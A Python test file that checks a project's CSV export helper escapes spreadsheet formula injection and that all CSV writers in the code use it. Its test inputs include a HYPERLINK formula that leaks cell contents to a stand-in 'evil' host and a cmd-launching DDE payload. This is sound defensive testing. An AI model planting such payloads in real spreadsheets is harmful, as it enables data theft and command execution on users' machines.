"""Every CSV Koppel writes is safe to open in a spreadsheet (issue 10, finding 3)."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from backend.core.csv_safe import csv_cell, safe_csv_writer

ROOT = Path(__file__).resolve().parents[3]
SOURCE_DIRS = ("backend", "frontend", "matching", "bench")
HELPER = Path("backend/core/csv_safe.py")
WRITERS = {"writer", "DictWriter"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil?leak="&E2&F2,"x")',
            '\'=HYPERLINK("http://evil?leak="&E2&F2,"x")',
        ),
        ("+31 6 1234", "'+31 6 1234"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        # Text that merely looks like a negative number is neutralised too (see the module doc).
        ("-3", "'-3"),
        ("Bakkerij Jansen", "Bakkerij Jansen"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        # Real numbers cannot carry a formula and stay summable.
        (-3, -3),
        (Decimal("-12.50"), Decimal("-12.50")),
        (2.5, 2.5),
        (True, "True"),
    ],
)
def test_it_neutralises_cells_that_a_spreadsheet_would_run_as_a_formula(value, expected):
    assert csv_cell(value) == expected


def test_the_writer_neutralises_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = safe_csv_writer(buffer)
    writer.writerow(["=1+1", "ok", -3])
    writer.writerows([["@x", None], ["+y", "-z"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", "ok", "-3"],
        ["'@x", ""],
        ["'+y", "'-z"],
    ]


def _csv_writer_uses(tree: ast.AST) -> list[int]:
    """Lines that build a csv writer directly: `csv.writer(...)`, `csv.DictWriter(...)` or
    `from csv import writer`."""
    lines = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in WRITERS
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            lines.append(node.lineno)
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and any(alias.name in WRITERS for alias in node.names)
        ):
            lines.append(node.lineno)
    return sorted(lines)


def test_every_csv_writer_in_the_code_goes_through_the_safe_helper():
    offenders = []
    scanned = 0
    for directory in SOURCE_DIRS:
        for path in sorted((ROOT / directory).rglob("*.py")):
            relative = path.relative_to(ROOT)
            if relative == HELPER:
                continue
            scanned += 1
            tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(relative))
            offenders += [f"{relative}:{line}" for line in _csv_writer_uses(tree)]
    assert scanned > 100  # the scan really walked the source tree
    assert offenders == [], "use backend.core.csv_safe.safe_csv_writer instead"


def test_the_scan_recognises_a_direct_csv_writer():
    tree = ast.parse("import csv\nw = csv.writer(f)\nfrom csv import DictWriter\n")
    assert _csv_writer_uses(tree) == [2, 3]


def test_every_module_writing_text_csv_uses_the_helper():
    """A response or file declared as CSV is written by the helper in the same module or by a
    selector that uses it (the round export): nothing writes CSV rows by hand."""
    writers = {"backend/core/csv_safe.py"}
    for directory in SOURCE_DIRS:
        for path in (ROOT / directory).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if "text/csv" in text:
                relative = str(path.relative_to(ROOT))
                assert "safe_csv_writer" in text or "assignments_csv" in text, relative
                writers.add(relative)
    assert len(writers) >= 4
